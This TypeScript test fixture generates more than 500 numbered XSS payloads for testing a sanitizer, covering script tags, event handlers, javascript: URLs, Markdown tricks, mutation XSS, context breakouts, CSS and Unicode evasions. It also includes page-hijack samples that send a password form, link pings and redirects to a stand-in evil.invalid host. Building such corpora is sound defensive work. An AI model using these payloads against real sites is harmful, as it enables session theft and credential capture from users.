/**
 * Our XSS corpus: 500+ distinct, plausible vectors (written here, not downloaded), each with
 * a unique number N. A payload that ever runs calls `alert(N)` (or `__xss(N)`), and one that
 * ever lands as markup carries `id="xss-N"`, so a hit names the payload that caused it.
 *
 * Families: classic script tags; event handlers on img/svg/body/details/video/audio/iframe/
 * input/...; javascript:/vbscript:/data: URLs (mixed case, entity-encoded, whitespace-split,
 * control characters) in every URL-carrying context (HTML and Markdown); Markdown link and
 * image tricks; mutation XSS (noscript/style/title/textarea/template/svg/math namespace
 * confusion); attribute and context breakouts; CSS; meta refresh, base href, form hijack,
 * srcdoc; Unicode (zero-width, RTL, fullwidth); script/JSON/template-literal breakouts and
 * React-specific shapes (`__html`, `javascript:` in a URL field).
 */

export interface XssPayload {
  /** Unique marker number: the payload calls alert(n) / carries id="xss-n". */
  n: number;
  family: string;
  text: string;
}

/** Templates use `N` for the number, as `alert(N)`, `__xss(N)` and `xss-N`. */
const js = (n: number) => `alert(${n})`;

type Template = (n: number) => string;

const CLASSIC: Template[] = [
  (n) => `<script>${js(n)}</script>`,
  (n) => `<script id="xss-${n}">${js(n)}</script>`,
  (n) => `<SCRIPT>${js(n)}</SCRIPT>`,
  (n) => `<ScRiPt>${js(n)}</sCrIpT>`,
  (n) => `<script src="data:text/javascript,${js(n)}"></script>`,
  (n) => `<script type="module">${js(n)}</script>`,
  (n) => `<script/xss-${n}>${js(n)}</script>`,
  (n) => `<script\n>${js(n)}</script\n>`,
  (n) => `<<script>${js(n)}//<</script>`,
  (n) => `<script>${js(n)}<!--`,
  (n) => `<scr<script>ipt>${js(n)}</scr</script>ipt>`,
  (n) => `<script>/*</script><script id="xss-${n}">*/${js(n)}</script>`,
  (n) => `<script>eval(atob('${Buffer.from(js(n)).toString("base64")}'))</script>`,
  (n) => `<script>setTimeout('${js(n)}')</script>`,
  (n) => `<script>window.__xss && __xss(${n})</script>`,
  (n) => `<script>document.write('<img id=xss-${n} src=x>')</script>`,
  (n) => `<plaintext><script>${js(n)}</script>`,
  (n) => `<xmp><script>${js(n)}</script></xmp>`,
  (n) => `<listing><img id=xss-${n} src=x onerror=${js(n)}></listing>`,
  (n) => `<isindex type=image src=1 onerror=${js(n)} id=xss-${n}>`,
  (n) => `<applet code="javascript:${js(n)}" id="xss-${n}"></applet>`,
  (n) => `<object data="javascript:${js(n)}" id="xss-${n}"></object>`,
  (n) => `<embed src="javascript:${js(n)}" id="xss-${n}">`,
  (n) =>
    `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg onload="${js(n)}"/>`).toString("base64")}" id="xss-${n}">`,
  (n) => `<frameset onload=${js(n)} id=xss-${n}>`,
  (n) => `<keygen autofocus onfocus=${js(n)} id=xss-${n}>`,
  (n) => `<marquee onstart=${js(n)} id=xss-${n}>x</marquee>`,
  (n) => `<bgsound src="javascript:${js(n)}" id="xss-${n}">`,
  (n) => `<link rel="import" href="data:text/html,<script>${js(n)}</script>" id="xss-${n}">`,
  (n) => `<portal src="javascript:${js(n)}" id="xss-${n}"></portal>`,
  (n) => `<x onclick=${js(n)} id=xss-${n} style=display:block;position:fixed;inset:0>click</x>`,
  (n) => `<a id=xss-${n} href=# onclick="${js(n)}">x</a>`,
  (n) => `<div id=xss-${n} onpointerover=${js(n)}>x</div>`,
  (n) => `<button id=xss-${n} formaction="javascript:${js(n)}">x</button>`,
];

/** Tags and the events each one plausibly fires on its own or on first interaction. */
const TAG_EVENTS: Array<[string, string[]]> = [
  ["img src=x", ["onerror", "onload", "onmouseover", "onpointerenter", "onfocus"]],
  ["img src=/favicon.ico", ["onload", "onmouseover"]],
  ["svg", ["onload", "onmouseover", "onfocusin", "onpointerenter"]],
  ["svg><animate attributeName=x dur=1s", ["onbegin", "onend", "onrepeat"]],
  ["body", ["onload", "onpageshow", "onfocus", "onhashchange", "onresize", "onscroll"]],
  ["details open", ["ontoggle"]],
  ["video src=x", ["onerror", "onloadstart", "oncanplay"]],
  ["video><source src=x", ["onerror"]],
  ["audio src=x", ["onerror", "onloadstart"]],
  ["iframe src=about:blank", ["onload"]],
  ["iframe", ["onload", "onmouseover"]],
  ["input autofocus", ["onfocus", "onblur", "oninput"]],
  ["input type=image src=x", ["onerror"]],
  ["select autofocus", ["onfocus"]],
  ["textarea autofocus", ["onfocus"]],
  ["keygen autofocus", ["onfocus"]],
  ["div tabindex=1 autofocus", ["onfocus", "onfocusin"]],
  ["a href=# autofocus", ["onfocus"]],
  ["object data=x", ["onerror", "onload"]],
  ["embed src=x", ["onload"]],
  ["style", ["onload", "onerror"]],
  ["link rel=stylesheet href=x", ["onerror", "onload"]],
  ["marquee", ["onstart", "onbounce", "onfinish"]],
  ["form><button", ["onclick", "onfocus"]],
  ["table background=x", ["onerror"]],
  ["image src=x", ["onerror"]],
  ["p style=animation-name:spin", ["onanimationstart", "onanimationend"]],
  ["div style=transition:all+1s", ["ontransitionend", "ontransitionrun"]],
  ["math><maction actiontype=statusline", ["onclick"]],
  ["x contenteditable", ["onfocus", "onbeforeinput", "onpaste"]],
  ["meter value=2 min=0 max=10", ["onmouseover"]],
  ["progress", ["onmouseover"]],
  ["track src=x", ["onerror"]],
  ["picture><img src=x", ["onerror"]],
];

/** javascript:/vbscript:/data: URLs, spelled every way browsers have been known to accept. */
const SCHEMES: Template[] = [
  (n) => `javascript:${js(n)}`,
  (n) => `JaVaScRiPt:${js(n)}`,
  (n) => `JAVASCRIPT:${js(n)}`,
  (n) => ` javascript:${js(n)}`,
  (n) => `\tjavascript:${js(n)}`,
  (n) => `java\tscript:${js(n)}`,
  (n) => `java\nscript:${js(n)}`,
  (n) => `java\rscript:${js(n)}`,
  (n) => `\x01javascript:${js(n)}`,
  (n) => `&#106;avascript:${js(n)}`,
  (n) => `&#x6A;avascript:${js(n)}`,
  (n) =>
    `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${js(n)}`,
  (n) => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${js(n)}`,
  (n) => `javascript&colon;${js(n)}`,
  (n) => `javascript&#58;${js(n)}`,
  (n) => `javascript&#x3a;${js(n)}`,
  (n) => `jav&#x09;ascript:${js(n)}`,
  (n) => `jav&#x0A;ascript:${js(n)}`,
  (n) =>
    `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js(n)}//'>`,
  (n) => `javascript://%0a${js(n)}`,
  (n) => `javascript:void(0);${js(n)}`,
  (n) => `javascript:eval('${js(n)}')`,
  (n) => `vbscript:msgbox(${n})`,
  (n) => `VBScript:MsgBox(${n})`,
  (n) => `livescript:${js(n)}`,
  (n) => `data:text/html,<script>${js(n)}</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>${js(n)}</script>`).toString("base64")}`,
  (n) => `DATA:text/html,<svg onload=${js(n)}>`,
  (n) => `data:image/svg+xml,<svg onload=${js(n)} xmlns="http://www.w3.org/2000/svg"/>`,
  (n) => `data:application/javascript,${js(n)}`,
];

/** Where a URL goes: HTML attributes and Markdown constructs. */
const URL_CONTEXTS: Array<[string, (url: string, n: number) => string]> = [
  ["a-href", (u, n) => `<a id="xss-${n}" href="${u}">click</a>`],
  ["md-link", (u) => `[click](${u})`],
  ["md-link-angle", (u) => `[click](<${u}>)`],
  ["md-ref", (u, n) => `[click][r${n}]\n\n[r${n}]: ${u}`],
  ["md-image", (u) => `![pic](${u})`],
  ["iframe-src", (u, n) => `<iframe id="xss-${n}" src="${u}"></iframe>`],
  ["form-action", (u, n) => `<form id="xss-${n}" action="${u}"><button>go</button></form>`],
  ["svg-xlink", (u, n) => `<svg><a id="xss-${n}" xlink:href="${u}"><text y=20>x</text></a></svg>`],
];

/** Markdown-specific tricks (the news body is Markdown). */
const MARKDOWN: Template[] = [
  (n) => `[x](javascript:${js(n)})`,
  (n) => `[x](javascript:${js(n)} "title")`,
  (n) => `[x](javascript:alert%28${n}%29)`,
  (n) => `[x](j a v a s c r i p t:${js(n)})`,
  (n) => `[x]( javascript:${js(n)})`,
  (n) => `[x](javascript://www.example.com%0A${js(n)})`,
  (n) => `[x](\\javascript:${js(n)})`,
  (n) => `[x](&#x6A;avascript:${js(n)})`,
  (n) => `[x](<javascript:${js(n)}>)`,
  (n) => `<javascript:${js(n)}>`,
  (n) => `![x](x" onerror="${js(n)})`,
  (n) => `![x](x"onerror="${js(n)}")`,
  (n) => `![x"onerror="${js(n)}](x)`,
  (n) => `![x](https://example.invalid/x.png"onload="${js(n)})`,
  (n) => `![x](x 'a"onerror="${js(n)}')`,
  (n) => `[x](#" onmouseover="${js(n)}" id="xss-${n})`,
  (n) => `[x](https://example.com/"onmouseover="${js(n)}")`,
  (n) => `[<img id=xss-${n} src=x onerror=${js(n)}>](https://example.com)`,
  (n) => `[![x](x)](javascript:${js(n)})`,
  (n) =>
    `[x](data:text/html;base64,${Buffer.from(`<script>${js(n)}</script>`).toString("base64")})`,
  (n) => `> <img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `* <svg id=xss-${n} onload=${js(n)}>`,
  (n) => `| a | b |\n|---|---|\n| <img id=xss-${n} src=x onerror=${js(n)}> | x |`,
  (n) => "```html\n</code></pre><img id=xss-" + n + " src=x onerror=" + js(n) + ">\n```",
  (n) => "`</code><img id=xss-" + n + " src=x onerror=" + js(n) + ">`",
  (n) => '```"><img id=xss-' + n + " src=x onerror=" + js(n) + ">\ncode\n```",
  (n) => `<div markdown="1">[x](javascript:${js(n)})</div>`,
  (n) => `<details><summary>x</summary>\n\n<img id=xss-${n} src=x onerror=${js(n)}>\n</details>`,
  (n) => `# <img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `Title\n===\n<svg id=xss-${n} onload=${js(n)}>`,
  (n) => `[x]: javascript:${js(n)}\n[x]`,
  (n) => `[x]: <javascript:${js(n)}> "t"\n\n[click][x]`,
  (n) => `<https://example.com/"onmouseover="${js(n)}>`,
  (n) => `www.example.com/<img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `***<img id=xss-${n} src=x onerror=${js(n)}>***`,
  (n) => `~~<svg id=xss-${n} onload=${js(n)}>~~`,
  (n) => `[^1]\n\n[^1]: <img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `<!-- --><img id=xss-${n} src=x onerror=${js(n)}><!-- -->`,
  (n) => `\\<img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `&lt;img id=xss-${n} src=x onerror=${js(n)}&gt;`,
];

/** Mutation XSS: markup that a sanitizer and a browser parse differently. */
const MXSS: Template[] = [
  (n) => `<noscript><p title="</noscript><img id=xss-${n} src=x onerror=${js(n)}>">`,
  (n) => `<style><style/><img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `<style></style><img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `<title><img id=xss-${n} src=x onerror=${js(n)}></title>`,
  (n) => `<title></title><img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `<textarea></textarea><img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `<textarea><img id=xss-${n} src=x onerror=${js(n)}></textarea>`,
  (n) => `<template><img id=xss-${n} src=x onerror=${js(n)}></template>`,
  (n) => `<template><script>${js(n)}</script></template>`,
  (n) => `<svg><foreignObject><img id=xss-${n} src=x onerror=${js(n)}></foreignObject></svg>`,
  (n) => `<svg></p><style><a id="</style><img id=xss-${n} src=x onerror=${js(n)}>">`,
  (n) => `<svg><style><img id=xss-${n} src=x onerror=${js(n)}></style></svg>`,
  (n) => `<svg><p><style><img id=xss-${n} src=x onerror=${js(n)}></style></p></svg>`,
  (n) => `<math><mi//xlink:href="data:x,<script>${js(n)}</script>">`,
  (n) =>
    `<math><mtext><table><mglyph><style><img id=xss-${n} src=x onerror=${js(n)}></style></mglyph></table></mtext></math>`,
  (n) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img id=xss-${n} src=x onerror=${js(n)}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
  (n) =>
    `<form><math><mtext></form><form><mglyph><style></math><img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) =>
    `<math><annotation-xml encoding="text/html"><style><img id=xss-${n} src=x onerror=${js(n)}></style></annotation-xml></math>`,
  (n) => `<svg><desc><style><img id=xss-${n} src=x onerror=${js(n)}></style></desc></svg>`,
  (n) => `<svg><title><style><img id=xss-${n} src=x onerror=${js(n)}></style></title></svg>`,
  (n) =>
    `<a href="x"><svg><a id="xss-${n}" href="javascript:${js(n)}"><circle r=40></circle></a></svg></a>`,
  (n) => `<iframe><img id=xss-${n} src=x onerror=${js(n)}></iframe>`,
  (n) => `<noembed><img title="</noembed><img id=xss-${n} src=x onerror=${js(n)}>"></noembed>`,
  (n) => `<noframes><img title="</noframes><img id=xss-${n} src=x onerror=${js(n)}>"></noframes>`,
  (n) => `<xmp><img title="</xmp><img id=xss-${n} src=x onerror=${js(n)}>"></xmp>`,
  (n) =>
    `<select><template><style><img id=xss-${n} src=x onerror=${js(n)}></style></template></select>`,
  (n) => `<table><caption><svg><style><img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `<!--><img id=xss-${n} src=x onerror=${js(n)}>-->`,
  (n) => `<!--<img title="--><img id=xss-${n} src=x onerror=${js(n)}>">`,
  (n) => `<![CDATA[><img id=xss-${n} src=x onerror=${js(n)}>]]>`,
  (n) => `<svg><![CDATA[><img id=xss-${n} src=x onerror=${js(n)}>]]></svg>`,
  (n) => `<? foo="><img id=xss-${n} src=x onerror=${js(n)}>">`,
  (n) => `</br id=xss-${n} onmouseover=${js(n)}>`,
  (n) => `<img src=x id=xss-${n} onerror=${js(n)}//`,
  (n) => `<img src=x id=xss-${n} onerror=${js(n)}`,
  (n) => `<img/src=x/id=xss-${n}/onerror=${js(n)}>`,
  (n) => `<img src=x id=xss-${n} onerror\n=\n${js(n)}>`,
  (n) => `<img src=x id=xss-${n} onerror="&#97;lert(${n})">`,
  (n) => `<img src=x id=xss-${n} onerror=\\u0061lert(${n})>`,
  (n) => `<img src=\`x\` id=xss-${n} onerror=\`${js(n)}\`>`,
  (n) => `<img """><script>${js(n)}</script>">`,
  (n) => `<img src="x` + "`" + ` id=xss-${n} onerror=${js(n)}>`,
];

/** Contexts a value could land in and be broken out of; each followed by live markup. */
const BREAKOUT_PREFIXES = [
  `">`,
  `'>`,
  `">'>`,
  `" >`,
  `"/>`,
  `</title>`,
  `</textarea>`,
  `</script>`,
  `</style>`,
  `</noscript>`,
  `</option></select>`,
  `</a>`,
  `-->`,
  `]]>`,
  `</template>`,
  `</iframe>`,
  `</xmp>`,
  `</svg>`,
  `</math>`,
  `" autofocus onfocus="`,
];
const BREAKOUT_TAILS: Template[] = [
  (n) => `<svg id=xss-${n} onload=${js(n)}>`,
  (n) => `<img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `<script>${js(n)}</script>`,
];

const CSS: Template[] = [
  (n) => `<div id=xss-${n} style="background:url(javascript:${js(n)})">x</div>`,
  (n) => `<div id=xss-${n} style="width:expression(${js(n)})">x</div>`,
  (n) => `<div id=xss-${n} style="behavior:url(xss.htc)">x</div>`,
  (n) => `<div id=xss-${n} style="-moz-binding:url(data:text/xml,x#xss)">x</div>`,
  (n) => `<style>@import 'javascript:${js(n)}';</style>`,
  (n) => `<style>body{background:url("javascript:${js(n)}")}</style>`,
  (n) => `<style>*{x:expression(${js(n)})}</style>`,
  (n) =>
    `<style>@keyframes x{}</style><p id=xss-${n} style="animation-name:x" onanimationstart=${js(n)}>`,
  (n) => `<link rel=stylesheet href="javascript:${js(n)}" id=xss-${n}>`,
  (n) => `<link rel=stylesheet href="data:text/css,body{background:red}" id=xss-${n}>`,
  (n) =>
    `<div id=xss-${n} style="position:fixed;inset:0;background:url('x')" onmouseover=${js(n)}>x</div>`,
  (n) => `<span id=xss-${n} style="x:\\65 xpression(${js(n)})">x</span>`,
  (n) => `<div id=xss-${n} style="background-image:u\\rl(javascript:${js(n)})">x</div>`,
  (n) => `<style>input[value^=a]{background:url(/leak?a)}</style><b id=xss-${n}>css</b>`,
];

const PAGE_HIJACK: Template[] = [
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${js(n)}" id="xss-${n}">`,
  (n) =>
    `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${Buffer.from(`<script>${js(n)}</script>`).toString("base64")}" id="xss-${n}">`,
  (n) => `<meta http-equiv="refresh" content="0; url=https://evil.invalid/${n}" id="xss-${n}">`,
  (n) => `<meta http-equiv="Content-Security-Policy" content="script-src *" id="xss-${n}">`,
  (n) => `<meta charset="UTF-7" id="xss-${n}">+ADw-script+AD4-${js(n)}+ADw-/script+AD4-`,
  (n) => `<base href="javascript:${js(n)}//" id="xss-${n}">`,
  (n) => `<base href="https://evil.invalid/${n}/" id="xss-${n}">`,
  (n) =>
    `<form id="xss-${n}" action="https://evil.invalid/${n}" method="post"><input name="password"><button>Log in</button></form>`,
  (n) => `<button id="xss-${n}" form="login" formaction="https://evil.invalid/${n}">x</button>`,
  (n) => `<input id="xss-${n}" form="x" formaction="javascript:${js(n)}" type="submit">`,
  (n) => `<iframe id="xss-${n}" srcdoc="<script>parent.${js(n)}</script>"></iframe>`,
  (n) => `<iframe id="xss-${n}" srcdoc="&lt;img src=x onerror=parent.${js(n)}&gt;"></iframe>`,
  (n) => `<iframe id="xss-${n}" src="data:text/html,<script>${js(n)}</script>"></iframe>`,
  (n) =>
    `<object id="xss-${n}" type="text/html" data="data:text/html,<script>${js(n)}</script>"></object>`,
  (n) => `<a id="xss-${n}" href="https://evil.invalid" target="_blank">tabnabbing ${n}</a>`,
  (n) => `<a id="xss-${n}" href="/logout" ping="https://evil.invalid/${n}">x</a>`,
  (n) => `<img id="xss-${n}" src="/logout">`,
  (n) => `<img id="xss-${n}" srcset="javascript:${js(n)} 1x">`,
  (n) =>
    `<svg><use id="xss-${n}" href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js(n)}'/></svg>#x"/></svg>`,
  (n) => `<svg><set id="xss-${n}" attributeName="href" to="javascript:${js(n)}"/></svg>`,
  (n) => `<svg><animate id="xss-${n}" attributeName="href" values="javascript:${js(n)}"/></svg>`,
  (n) => `<svg><script id="xss-${n}">${js(n)}</script></svg>`,
  (n) => `<svg><script href="data:,${js(n)}" id="xss-${n}"/></svg>`,
  (n) => `<math id="xss-${n}" href="javascript:${js(n)}">click</math>`,
  (n) => `<a id="xss-${n}" href="javascript:${js(n)}" download>x</a>`,
  (n) => `<details id="xss-${n}" open ontoggle="${js(n)}"><summary>x</summary></details>`,
];

const UNICODE: Template[] = [
  (n) => `<scr\u200Bipt>${js(n)}</scr\u200Bipt>`,
  (n) => `<img src=x id=xss-${n} \u200Bonerror=${js(n)}>`,
  (n) => `<img src=x id=xss-${n} on\u00ADerror=${js(n)}>`,
  (n) => `\uFF1Cscript\uFF1E${js(n)}\uFF1C/script\uFF1E`,
  (n) => `\uFE64script\uFE65${js(n)}\uFE64/script\uFE65`,
  (n) => `\u202E>tpircs/<)${n}(trela>tpircs<\u202C`,
  (n) => `\u202Egnp.exe\u202C <img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `\u2028<script>${js(n)}</script>\u2029`,
  (n) => `\uFEFF<script>${js(n)}</script>`,
  (n) => `\u0000<script>${js(n)}</script>`,
  (n) => `<scr\u0000ipt>${js(n)}</scr\u0000ipt>`,
  (n) => `<img src=x id=xss-${n} onerror\u0000=${js(n)}>`,
  (n) => `[x](java\u200Bscript:${js(n)})`,
  (n) => `[x](\u00A0javascript:${js(n)})`,
  (n) => `[x](\u3000javascript:${js(n)})`,
  (n) => `<a id=xss-${n} href="\u0001java\u0002script:${js(n)}">x</a>`,
  (n) => `%3Cscript%3E${js(n)}%3C%2Fscript%3E`,
  (n) => `%253Cscript%253E${js(n)}%253C%252Fscript%253E`,
  (n) => `\\x3cscript\\x3e${js(n)}\\x3c/script\\x3e`,
  (n) => `\\u003cimg id=xss-${n} src=x onerror=${js(n)}\\u003e`,
  (n) => `&#60;script&#62;${js(n)}&#60;/script&#62;`,
  (n) => `&#x3C;img id=xss-${n} src=x onerror=${js(n)}&#x3E;`,
  (n) => `\u00BCscript\u00BE${js(n)}\u00BC/script\u00BE`,
  (n) => `<\u0131mg src=x id=xss-${n} onerror=${js(n)}>`,
  (n) => `<ſcript>${js(n)}</ſcript>`,
  (n) => `<img src=x id=xss-${n} onerror=\u0061\u006C\u0065\u0072\u0074(${n})>`,
  (n) => `𝓪𝓵𝓮𝓻𝓽(${n}) <img id=xss-${n} src=x onerror=${js(n)}> 👨‍👩‍👧`,
  (n) => `紫竹<script>${js(n)}</script>园区`,
  (n) => `ثم<img id=xss-${n} src=x onerror=${js(n)}>نفس`,
];

/** Script, JSON and template-literal breakouts (loader data is serialised into the page). */
const SCRIPT_CONTEXT: Template[] = [
  (n) => `</script><script>${js(n)}</script>`,
  (n) => `</script><img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `</SCRIPT ><script>${js(n)}</script>`,
  (n) => `</script\t><script>${js(n)}</script>`,
  (n) => `<!--<script>${js(n)}</script>`,
  (n) => `<!--<script></script>${js(n)}`,
  (n) => `"};${js(n)};//`,
  (n) => `'};${js(n)};//`,
  (n) => `"]});${js(n)};//`,
  (n) => `\\";${js(n)};//`,
  (n) => `'-${js(n)}-'`,
  (n) => `"-${js(n)}-"`,
  (n) => `\${${js(n)}}`,
  (n) => `\`;${js(n)};\``,
  (n) => `{{constructor.constructor('${js(n)}')()}}`,
  (n) => `{{${js(n)}}}`,
  (n) => `<%= ${js(n)} %>`,
  (n) => `#{${js(n)}}`,
  (n) => `\u2028${js(n)}\u2029`,
  (n) => `{"__proto__":{"innerHTML":"<img id=xss-${n} src=x onerror=${js(n)}>"}}`,
  (n) => `{"__html":"<img id=xss-${n} src=x onerror=${js(n)}>"}`,
  (n) => `{"dangerouslySetInnerHTML":{"__html":"<svg id=xss-${n} onload=${js(n)}>"}}`,
  (n) => `<div dangerouslySetInnerHTML={{__html:'<img id=xss-${n} src=x onerror=${js(n)}>'}} />`,
  (n) => `[object Object]<img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `constructor<img id=xss-${n} src=x onerror=${js(n)}>`,
  (n) => `__proto__<svg id=xss-${n} onload=${js(n)}>`,
  (n) => `window.__remixContext=${js(n)}</script><script>${js(n)}</script>`,
  (n) => `\\u003c/script\\u003e\\u003cscript\\u003e${js(n)}\\u003c/script\\u003e`,
];

/** Every distinct payload, numbered from 1. */
export function xssPayloads(): XssPayload[] {
  const out: XssPayload[] = [];
  const seen = new Set<string>();
  let n = 0;
  const add = (family: string, make: Template) => {
    n += 1;
    const text = make(n);
    if (seen.has(text)) {
      n -= 1;
      return;
    }
    seen.add(text);
    out.push({ n, family, text });
  };
  for (const t of CLASSIC) add("classic", t);
  for (const [tag, events] of TAG_EVENTS) {
    const name = tag.split(/[\s>]/)[0]!;
    for (const event of events) {
      add(`event:${name}`, (k) => `<${tag} id=xss-${k} ${event}=${js(k)}>`);
      add(`event:${name}`, (k) => `<${tag} id="xss-${k}" ${event}="window.__xss&&__xss(${k})">`);
    }
  }
  for (const [context, wrap] of URL_CONTEXTS) {
    for (const scheme of SCHEMES) add(`url:${context}`, (k) => wrap(scheme(k), k));
  }
  for (const t of MARKDOWN) add("markdown", t);
  for (const t of MXSS) add("mxss", t);
  for (const prefix of BREAKOUT_PREFIXES) {
    for (const tail of BREAKOUT_TAILS) add("breakout", (k) => prefix + tail(k));
  }
  for (const t of CSS) add("css", t);
  for (const t of PAGE_HIJACK) add("hijack", t);
  for (const t of UNICODE) add("unicode", t);
  for (const t of SCRIPT_CONTEXT) add("script-context", t);
  return out;
}

/** The payloads in chunks of `size` (one record per chunk keeps the page count small). */
export function payloadChunks(size: number): XssPayload[][] {
  const all = xssPayloads();
  const chunks: XssPayload[][] = [];
  for (let i = 0; i < all.length; i += size) chunks.push(all.slice(i, i + size));
  return chunks;
}
